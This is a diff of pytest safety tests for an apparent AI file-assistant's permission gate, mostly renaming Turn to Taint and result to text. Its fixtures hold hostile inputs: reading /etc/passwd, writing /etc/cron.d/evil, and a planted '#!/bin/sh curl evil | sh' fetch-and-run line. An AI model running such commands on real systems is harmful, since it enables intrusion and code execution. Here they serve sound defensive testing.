@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from app import paths, settings
-from app.safety.gate import Turn
+from app.safety.gate import Taint
 from app.safety.policy import Policy, Rule
 from models.grammar import tool_call_grammar
 from tests.safety.layouts import Layout
@@ -18,7 +18,7 @@ from tools.registry import REGISTRY
 
 
 def call(rig, tool: str, **args):
-    return rig.gate.run(tool, {**args, "request_heartbeat": False}, Turn())
+    return rig.gate.run(tool, {**args, "request_heartbeat": False}, Taint())
 
 
 # -- finding 1: Pagemind's own folders, whatever symlinks lie on their path --------------------------
@@ -49,8 +49,8 @@ def test_pagemind_folders_are_refused_on_every_layout_even_under_a_broad_rule(la
         attacks.append(("delete", {"path": str(layout.home / ".config")}))
     for tool, args in attacks:
         outcome = call(rig, tool, **args)
-        denied = outcome.result.startswith("Denied:")
-        assert denied and ("Pagemind" in outcome.result or "holds" in outcome.result), (tool, args, outcome.result)
+        denied = outcome.text.startswith("Denied:")
+        assert denied and ("Pagemind" in outcome.text or "holds" in outcome.text), (tool, args, outcome.text)
         assert not outcome.ran
     assert rig.confirmer.seen == []  # refused, never asked
     assert settings_file.read_bytes() == before
@@ -73,7 +73,7 @@ def test_a_broad_allowed_root_does_not_open_the_system_folders(plain_layout: Lay
     for tool, args in [("read_file", {"path": "/etc/passwd"}), ("list_dir", {"path": "/usr/bin"}),
                        ("write_file", {"path": "/etc/cron.d/evil", "content": "x"})]:
         outcome = call(rig, tool, **args)
-        assert outcome.result.startswith("Denied:") and "system folder" in outcome.result, outcome.result
+        assert outcome.text.startswith("Denied:") and "system folder" in outcome.text, outcome.text
     assert rig.confirmer.seen == []
 
 
@@ -89,7 +89,7 @@ def test_a_blank_path_is_refused_by_the_schema_and_creates_nothing(plain_layout:
                        ("write_file", {"path": blank, "content": "x"}), ("delete", {"path": blank}),
                        ("list_dir", {"path": blank})]:
         outcome = call(rig, tool, **args)
-        assert outcome.result.startswith(f"Error: invalid arguments for {tool}"), outcome.result
+        assert outcome.text.startswith(f"Error: invalid arguments for {tool}"), outcome.text
     assert not (home / ".bash_aliases").exists() and rig.confirmer.seen == []
 
 
@@ -130,7 +130,7 @@ def test_sensitive_places_always_ask_whatever_the_rules(plain_layout: Layout, ri
     ]
     for tool, args in attacks:
         outcome = call(rig, tool, **args)
-        assert not outcome.ran, (tool, outcome.result)
+        assert not outcome.ran, (tool, outcome.text)
         asked = rig.confirmer.seen[-1]
         assert "sensitive place" in asked.reason and not asked.can_always, asked
     assert len(rig.confirmer.seen) == len(attacks)
@@ -174,7 +174,7 @@ def test_writes_into_the_trash_are_refused_so_delete_always_asks(plain_layout: L
                        ("copy", {"src": "~/Notes/list.txt", "dst": str(trash_files / "x")}),
                        ("write_file", {"path": str(trash_files.parent / "info" / "x.trashinfo"), "content": "x"})]:
         outcome = call(rig, tool, **args)
-        assert outcome.result.startswith("Denied:") and "trash" in outcome.result, outcome.result
+        assert outcome.text.startswith("Denied:") and "trash" in outcome.text, outcome.text
     assert (home / "Notes" / "list.txt").exists() and rig.confirmer.seen == []
 
 
@@ -183,7 +183,7 @@ def test_undo_does_not_restore_an_item_swapped_inside_the_trash(plain_layout: La
     rig = rig_factory()
     rig.confirmer.answers = ["once"]
     outcome = call(rig, "delete", path="~/Notes/list.txt")
-    assert outcome.ran and outcome.undoable, outcome.result
+    assert outcome.ran and outcome.undoable, outcome.text
     trashed = home / ".local" / "share" / "Trash" / "files" / "list.txt"
     trashed.write_text("#!/bin/sh\ncurl evil | sh\n")  # another program swaps the item
     with pytest.raises(Exception, match="not the one that was deleted"):
@@ -206,7 +206,7 @@ def test_a_moved_link_is_judged_where_it_is_not_where_it_points(plain_layout: La
     (home / "Notes" / "to-ssh").symlink_to(home / ".ssh")
     rig = rig_factory("write " + str(home / "Notes"))
     outcome = call(rig, "move", src="~/Notes/to-ssh", dst="~/Notes/renamed")
-    assert outcome.ran, outcome.result  # the link itself is in ~/Notes, and only the link moves
+    assert outcome.ran, outcome.text  # the link itself is in ~/Notes, and only the link moves
     assert (home / "Notes" / "renamed").is_symlink() and (home / ".ssh" / "authorized_keys").exists()
     assert rig.confirmer.seen == []
     os.unlink(home / "Notes" / "renamed")
